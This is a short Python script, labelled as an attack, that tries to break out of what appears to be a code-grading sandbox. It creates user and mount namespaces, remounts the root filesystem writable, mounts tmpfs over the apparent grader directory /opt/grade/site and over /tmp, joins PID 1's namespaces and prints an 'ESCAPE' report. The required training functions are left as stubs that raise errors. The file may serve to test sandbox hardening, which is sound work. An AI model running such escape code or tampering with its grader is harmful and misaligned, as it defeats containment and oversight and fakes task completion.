"""Attack: make a user namespace (unshare, clone, setns) to regain capabilities and remount the shared paths writable."""

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
CLONE_NEWUSER, CLONE_NEWNS = 0x10000000, 0x00020000
RESULTS: dict[str, str] = {}


def _try(name: str, result: int) -> None:
    RESULTS[name] = "ok" if result >= 0 else os.strerror(ctypes.get_errno())


_try("unshare", libc.unshare(CLONE_NEWUSER | CLONE_NEWNS))
if RESULTS["unshare"] == "ok":
    _try("remount", libc.mount(b"none", b"/", None, 0x20 | 0x1000, None))  # MS_REMOUNT|MS_BIND, read-write
    _try("mount-site", libc.mount(b"tmpfs", b"/opt/grade/site", b"tmpfs", 0, None))
_try("clone-newuser", libc.syscall(56, CLONE_NEWUSER | 17, 0, 0, 0, 0))  # clone(2) on x86-64
if RESULTS["clone-newuser"] == "ok" and os.getpid() != os.getppid():
    pass
for ns in ("user", "mnt", "pid", "net"):
    try:
        fd = os.open(f"/proc/1/ns/{ns}", os.O_RDONLY)
        _try(f"setns-{ns}", libc.setns(fd, 0))
    except OSError as exc:
        RESULTS[f"setns-{ns}"] = exc.strerror or "error"
_try("mount-direct", libc.mount(b"tmpfs", b"/tmp", b"tmpfs", 0, None))
print("ESCAPE", RESULTS, flush=True)


def sigmoid(u):
    raise NotImplementedError


forward = loss = backward = train_step = sigmoid
